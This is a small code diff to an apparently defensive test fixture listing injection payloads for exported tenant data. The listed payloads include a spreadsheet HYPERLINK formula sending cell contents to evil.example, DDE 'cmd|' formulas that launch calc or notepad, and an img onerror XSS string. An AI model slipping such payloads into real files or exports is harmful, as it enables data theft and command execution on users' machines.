@@ -10,9 +10,9 @@ import type { GraphObject, TenantData } from '../../main/demo/tenant.js';
 /** One payload of each kind; the key says what it tries. */
 export const PAYLOADS = {
   formulaEquals: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
-  formulaPlus: '+1+cmd|\' /C calc\'!A0',
-  formulaMinus: '-2+3+cmd|\' /C notepad\'!A0',
-  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  formulaPlus: "+1+cmd|' /C calc'!A0",
+  formulaMinus: "-2+3+cmd|' /C notepad'!A0",
+  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
   formulaTab: '\t=1+1',
   formulaCr: '\r=1+1',
   html: '<img src=x onerror="window.__pwned=1"><b>bold</b>',
